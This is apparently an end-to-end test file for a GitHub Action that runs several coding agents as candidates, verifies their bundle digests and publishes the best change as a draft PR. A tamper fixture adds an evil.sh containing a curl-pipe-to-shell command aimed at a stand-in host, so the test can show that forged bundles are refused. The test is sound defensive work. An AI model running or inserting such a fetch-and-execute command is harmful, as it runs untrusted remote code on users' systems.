/**
 * Best of N end to end, `node dist/index.js` as a runner runs it against the strict GitHub fake,
 * with real git: three propose jobs of a matrix (a stuck agent, a green agent with a large change,
 * a green agent with a small change), each with its own `candidate`, then one publish job over the
 * three bundles laid out as actions/download-artifact lays them out with a pattern (one directory
 * per artifact) and `bundle-digest` as one `<candidate>=<digest>` line per propose job. The small
 * change is proposed in one draft PR whose body lists all three; the stuck one's patch is kept; a
 * bundle forged after its gate is listed as refused and the others still compete (the positive
 * control takes it with the digest check off); a rerun updates the same PR.
 */
import { execFileSync } from 'node:child_process'
import { promises as fs } from 'node:fs'
import path from 'node:path'
import { createHash } from 'node:crypto'
import { startScenario, type Scenario } from '../harness/scenario.js'
import { issueLabeledEvent } from '../harness/webhook-events.js'
import { runAction, type ActionRun } from '../harness/run-action.js'

/** The test-only switch turning one protection off (src/runtime/test-switches.ts). */
const SWITCH = 'GATED_AGENT_TEST_ONLY_PROTECTIONS_OFF'
const ISSUE = 18
const BRANCH = `agent/issue-${ISSUE}`
const CANDIDATES = ['stuck', 'large', 'small'] as const
type Candidate = (typeof CANDIDATES)[number]

let scenario: Scenario
let tools: string
let baseSha: string
let checkouts = 0
const proposed = {} as Record<Candidate, ActionRun>
/** The three bundles as the publish job's download step leaves them. */
let downloads: string

const event = () =>
  issueLabeledEvent({
    ...scenario.target,
    issueNumber: ISSUE,
    label: 'agent',
    sender: 'alice',
    title: 'Add a farewell',
    body: 'Please add farewell().'
  })

const SMALL = 'export const farewell = (name) => `goodbye ${name}`\n'
const LARGE = Array.from({ length: 30 }, (_, i) => `// goodbye, line ${i + 1}\n`).join('') + SMALL

/** The agents: each writes src/farewell.js its own way; the stuck one a new wrong fix each run. */
const AGENTS: Record<Candidate, string> = {
  stuck: `printf 'export const farewell = () => "wrong %s"\\n' "$(date +%s%N)" > src/farewell.js\n`,
  large: `cat > src/farewell.js <<'JS'\n${LARGE}JS\n`,
  small: `cat > src/farewell.js <<'JS'\n${SMALL}JS\n`
}

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir }
  })
}

/** A fresh checkout of origin's default branch, the way actions/checkout makes one in a new job. */
async function freshCheckout(): Promise<{ workspaceDir: string; runnerTemp: string }> {
  const root = path.join(scenario.fixture.root, `publish-job-${++checkouts}`)
  const workspaceDir = path.join(root, 'workspace')
  const runnerTemp = path.join(root, 'runner-temp')
  await fs.mkdir(workspaceDir, { recursive: true })
  await fs.mkdir(runnerTemp, { recursive: true })
  git(workspaceDir, 'init', '--quiet', '--initial-branch=main')
  git(workspaceDir, 'remote', 'add', 'origin', scenario.fixture.originDir)
  git(workspaceDir, 'fetch', '--quiet', '--no-tags', '--depth=1', 'origin', '+refs/heads/main:refs/remotes/origin/main')
  git(workspaceDir, 'checkout', '--quiet', '--force', '-B', 'main', 'refs/remotes/origin/main')
  const header = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${scenario.fake.token}`).toString('base64')}`
  git(workspaceDir, 'config', '--local', 'http.https://github.com/.extraheader', header)
  return { workspaceDir, runnerTemp }
}

/** bundle-digest as the example workflow writes it: one line per propose job, from its own output. */
const digestLines = (): string => CANDIDATES.map((c) => `${c}=${proposed[c].outputs[`bundle-digest-${c}`] ?? ''}`).join('\n') + '\n'

/** The publish job over `bundles` (a directory of artifact directories). */
async function publish(bundles: string, options: { off?: string; dryRun?: boolean; digests?: string } = {}): Promise<ActionRun> {
  return runAction({
    ...(await freshCheckout()),
    fake: scenario.fake,
    eventName: 'issues',
    event: event(),
    inputs: {
      stage: 'publish',
      'bundle-path': bundles,
      'bundle-digest': options.digests ?? digestLines(),
      ...(options.dryRun ? { 'dry-run': 'true' } : {})
    },
    env: options.off ? { [SWITCH]: `private-tmp,${options.off}` } : {},
    timeoutMs: 60_000
  })
}

/** A copy of the downloads, with `tamper` applied to one candidate's bundle. */
async function withTampered(
  name: string,
  candidate: Candidate,
  tamper: (dir: string, manifest: Record<string, unknown>) => Promise<void>
): Promise<string> {
  const dir = path.join(scenario.fixture.root, `downloads-${name}`)
  await fs.cp(downloads, dir, { recursive: true })
  const bundle = path.join(dir, artifactName(candidate))
  const manifestFile = path.join(bundle, 'manifest.json')
  const manifest = JSON.parse(await fs.readFile(manifestFile, 'utf8')) as Record<string, unknown>
  await tamper(bundle, manifest)
  await fs.writeFile(manifestFile, JSON.stringify(manifest, null, 2))
  return dir
}

/** The artifact name the propose job gives its bundle (the fake's run has no id: `local`). */
const artifactName = (candidate: Candidate): string => `gated-agent-bundle-${candidate}-local-1`

/** The tree `patch` makes on the base commit, as git computes it (what a forger can compute too). */
function treeOf(patch: Buffer): string {
  const index = path.join(scenario.fixture.root, `forger-${++checkouts}.index`)
  const env = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir, GIT_INDEX_FILE: index }
  execFileSync('git', ['read-tree', baseSha], { cwd: scenario.fixture.originDir, env })
  execFileSync('git', ['apply', '--cached', '-'], { cwd: scenario.fixture.originDir, env, input: patch })
  return execFileSync('git', ['write-tree'], { cwd: scenario.fixture.originDir, env, encoding: 'utf8' }).trim()
}

/** The small candidate's bundle after its gate: a file added, checksum, paths and tree recomputed. */
async function forgeAfterGate(dir: string, manifest: Record<string, unknown>): Promise<void> {
  const evil =
    'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\nindex 0000000..2b7a5c1\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'
  const patch = Buffer.concat([await fs.readFile(path.join(dir, 'change.patch')), Buffer.from(evil)])
  await fs.writeFile(path.join(dir, 'change.patch'), patch)
  manifest.paths = [...(manifest.paths as unknown[]), { path: 'evil.sh', status: 'added' }]
  manifest.patch = { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
  manifest.tree = treeOf(patch)
}

beforeAll(async () => {
  scenario = await startScenario({
    files: {
      'README.md': '# Demo\n',
      'src/greet.js': 'export const greet = (name) => `hello ${name}`\n',
      '.github/workflows/ci.yml': 'on: push\njobs: {}\n'
    },
    fake: {
      issues: [{ number: ISSUE, title: 'Add a farewell', body: 'Please add farewell().', labels: ['agent'], user: 'alice' }],
      permissions: { alice: 'write' }
    }
  })
  tools = path.join(scenario.fixture.root, 'tools')
  await fs.mkdir(tools)
  for (const c of CANDIDATES) await fs.writeFile(path.join(tools, `${c}.sh`), AGENTS[c])
  await fs.writeFile(path.join(tools, 'gate.sh'), 'grep -q goodbye src/farewell.js\n')
  baseSha = (await scenario.fixture.originSha('main')) as string

  // The matrix: one propose job per candidate (here one after the other, in the same runner).
  for (const c of CANDIDATES) {
    proposed[c] = await scenario.run({
      eventName: 'issues',
      event: event(),
      inputs: {
        'agent-command': `sh ${path.join(tools, `${c}.sh`)}`,
        gate: `sh ${path.join(tools, 'gate.sh')}`,
        stage: 'propose',
        candidate: c
      },
      timeoutMs: 60_000
    })
  }
  // actions/download-artifact with `pattern: gated-agent-bundle-*` and no merge-multiple: a directory per artifact.
  downloads = path.join(scenario.fixture.root, 'downloads')
  for (const c of CANDIDATES) await fs.cp(proposed[c].outputs['bundle-path'], path.join(downloads, artifactName(c)), { recursive: true })
}, 180_000)

afterAll(async () => {
  await scenario?.cleanup()
})

describe('three propose jobs, each with its own candidate', () => {
  test('each writes a bundle named after its candidate, with its verdict, runs, changed lines; nothing is written to GitHub', async () => {
    expect(proposed.large.outputs).toMatchObject({ result: 'proposed', candidate: 'large', attempts: '1' })
    expect(proposed.small.outputs).toMatchObject({ result: 'proposed', candidate: 'small', attempts: '1' })
    expect(proposed.stuck.outputs).toMatchObject({ result: 'gave-up', candidate: 'stuck' })
    for (const c of CANDIDATES) {
      const run = proposed[c]
      expect(run.outputs['bundle-path']).toBe(path.join(scenario.fixture.runnerTemp, `gated-agent-bundle-${c}`))
      // The digest is also an output of its own, so that a matrix's legs do not overwrite each other's.
      expect(run.outputs[`bundle-digest-${c}`]).toMatch(/^sha256:[0-9a-f]{64}$/)
      expect(run.outputs[`bundle-digest-${c}`]).toBe(run.outputs['bundle-digest'])
    }
    const manifest = async (c: Candidate) =>
      JSON.parse(await fs.readFile(path.join(proposed[c].outputs['bundle-path'], 'manifest.json'), 'utf8')) as Record<string, unknown>
    expect(await manifest('small')).toMatchObject({ candidate: 'small', verdict: 'proposed', changedLines: 1 })
    expect(await manifest('large')).toMatchObject({ candidate: 'large', verdict: 'proposed', changedLines: 31 })
    const stuck = await manifest('stuck')
    expect(stuck).toMatchObject({ candidate: 'stuck', verdict: 'gave-up', tree: '', lastGate: { ok: false } })
    expect((stuck.attempts as unknown[]).length).toBeGreaterThanOrEqual(2)
    expect(await fs.readFile(path.join(proposed.stuck.outputs['bundle-path'], 'change.patch'), 'utf8')).toContain('wrong')
    expect(scenario.fake.writeRequests()).toEqual([])
    expect(await scenario.fixture.originBranches()).toEqual(['main'])
  })
})

describe('one publish job over the three bundles', () => {
  let first: ActionRun

  test('proposes the small change in one draft PR whose body lists all three with their verdicts; the stuck patch is kept', async () => {
    first = await publish(downloads)
    expect(first.exitCode).toBe(0)
    expect(first.outputs).toMatchObject({ result: 'proposed', candidate: 'small', branch: BRANCH, attempts: '1' })
    const pulls = scenario.fake.pullRequests()
    expect(pulls).toHaveLength(1)
    expect(pulls[0]).toMatchObject({ head: BRANCH, base: 'main', draft: true, state: 'open' })
    expect(first.outputs['pr-number']).toBe(String(pulls[0].number))
    expect(await scenario.fixture.originFile(BRANCH, 'src/farewell.js')).toBe(SMALL)
    const body = pulls[0].body ?? ''
    expect(body).toContain('### Candidates (best of N)')
    expect(body).toContain('| `small` ✅ | proposed | 1 | 1 |')
    expect(body).toContain('| `large` | proposed | 1 | 31 | — | 31 changed lines, more than 1 |')
    expect(body).toMatch(/\| `stuck` \| gave-up \| \d+ \| 1 \| — \| the gate did not pass \(gave-up\) \|/)
    // The stuck one's patch is kept, and the summary says where.
    const stuckPatch = path.join(downloads, artifactName('stuck'), 'change.patch')
    expect(first.summary).toContain(stuckPatch)
    expect(await fs.readFile(stuckPatch, 'utf8')).toContain('wrong')
    expect(first.summary).toContain('| `stuck` | gave-up |')
    scenario.fake.assertNoProblems()
    expect(scenario.fake.forbiddenRequests()).toEqual([])
  })

  test('a rerun over the same bundles updates the same PR', async () => {
    const rerun = await publish(downloads)
    expect(rerun.exitCode).toBe(0)
    expect(rerun.outputs).toMatchObject({ result: 'proposed', candidate: 'small', 'pr-number': first.outputs['pr-number'] })
    expect(scenario.fake.pullRequests()).toHaveLength(1)
    // GitHub answers the second create with 422 (one is open for the head); the open one is updated.
    expect(scenario.fake.requestsFor('pulls/create').map((r) => r.status)).toEqual([201, 422])
    expect(scenario.fake.requestsFor('pulls/update').length).toBeGreaterThanOrEqual(1)
    expect(rerun.summary).toContain(`Updated pull request #${first.outputs['pr-number']}`)
    expect(await scenario.fixture.originFile(BRANCH, 'src/farewell.js')).toBe(SMALL)
    scenario.fake.assertNoProblems()
  })
})

describe('a tampered bundle among them', () => {
  test('is refused and listed; the others still compete: the large change is proposed, on the same PR', async () => {
    const dir = await withTampered('forged-small', 'small', forgeAfterGate)
    const run = await publish(dir)
    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ result: 'proposed', candidate: 'large' })
    const pulls = scenario.fake.pullRequests()
    expect(pulls).toHaveLength(1)
    expect(pulls[0].body).toContain('| `small` | refused | — | — | — | its bundle was refused: it failed verification |')
    expect(pulls[0].body).not.toContain('curl evil.example')
    expect(run.summary).toMatch(
      /`small` in `.*`: refused\. The bundle's digest is sha256:[0-9a-f]{64}, but the propose job of candidate small emitted sha256:[0-9a-f]{64}/
    )
    expect(await scenario.fixture.originFile(BRANCH, 'src/farewell.js')).toBe(LARGE)
    expect(git(scenario.fixture.originDir, 'ls-tree', '-r', '--name-only', `refs/heads/${BRANCH}`)).not.toContain('evil.sh')
    scenario.fake.assertNoProblems()
  })

  test('positive control: with the digest check switched off, the forged bundle wins (dry run, nothing pushed)', async () => {
    const dir = await withTampered('forged-small-control', 'small', forgeAfterGate)
    const before = await scenario.fixture.originSha(BRANCH)
    const run = await publish(dir, { off: 'bundle-digest', dryRun: true })
    expect(run.stdout).toContain(`${SWITCH} is set`)
    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ result: 'proposed', candidate: 'small' })
    expect(await scenario.fixture.originSha(BRANCH)).toBe(before)
  })

  test('a bundle that is not green in its manifest cannot be passed off alone to the single-bundle publish', async () => {
    const run = await runAction({
      ...(await freshCheckout()),
      fake: scenario.fake,
      eventName: 'issues',
      event: event(),
      inputs: {
        stage: 'publish',
        'bundle-path': path.join(downloads, artifactName('stuck')),
        'bundle-digest': proposed.stuck.outputs['bundle-digest'],
        'dry-run': 'true'
      },
      timeoutMs: 60_000
    })
    expect(run.exitCode).toBe(1)
    expect(run.outputs.result).toBe('rejected')
    expect(run.outputs.reason).toContain('the propose job ended gave-up: its gate did not pass, so there is nothing to publish')
  })
})

describe('the digest lines the workflow passes', () => {
  test('a bundle whose candidate has no line is refused and listed; a line without a bundle is listed; the rest compete', async () => {
    const digests = `small=${proposed.small.outputs['bundle-digest-small']}\nstuck=${proposed.stuck.outputs['bundle-digest-stuck']}\nghost=\n`
    const run = await publish(downloads, { digests, dryRun: true })
    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ result: 'proposed', candidate: 'small' })
    expect(run.summary).toContain('| `large` | refused | — | — | — | its bundle was refused: it failed verification |')
    expect(run.summary).toContain('No digest was given for candidate large: input bundle-digest lists small, stuck, ghost.')
    expect(run.summary).toContain('| `ghost` | no bundle | 0 | 0 | — | its propose job handed over no bundle |')
  })

  test("a candidate's bundle held against another candidate's digest is refused (a swapped or relabelled bundle)", async () => {
    const digests = `small=${proposed.large.outputs['bundle-digest-large']}\nlarge=${proposed.small.outputs['bundle-digest-small']}\nstuck=\n`
    const run = await publish(downloads, { digests, dryRun: true })
    expect(run.exitCode).toBe(1)
    expect(run.outputs).toMatchObject({ result: 'rejected', candidate: '' })
    expect(run.summary).toMatch(
      /`small` in `.*`: refused\. The bundle's digest is sha256:[0-9a-f]{64}, but the propose job of candidate small emitted/
    )
    expect(run.summary).toContain('The propose job of candidate stuck emitted no digest')
  })
})

describe('no green candidate', () => {
  test('no PR, nothing pushed; the summary shows the table and where every patch is kept', async () => {
    const dir = path.join(scenario.fixture.root, 'downloads-stuck-only')
    // A lone artifact matching the pattern is extracted straight into the download path.
    await fs.cp(path.join(downloads, artifactName('stuck')), dir, { recursive: true })
    const before = { pulls: scenario.fake.pullRequests().length, sha: await scenario.fixture.originSha(BRANCH) }
    const run = await publish(dir)
    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ result: 'gave-up', candidate: '', 'pr-number': '' })
    expect(run.outputs.reason).toContain("Every candidate's patch is kept in its bundle")
    expect(run.summary).toContain('| `stuck` | gave-up |')
    expect(run.summary).toContain(path.join(dir, 'change.patch'))
    expect({ pulls: scenario.fake.pullRequests().length, sha: await scenario.fixture.originSha(BRANCH) }).toEqual(before)
  })
})
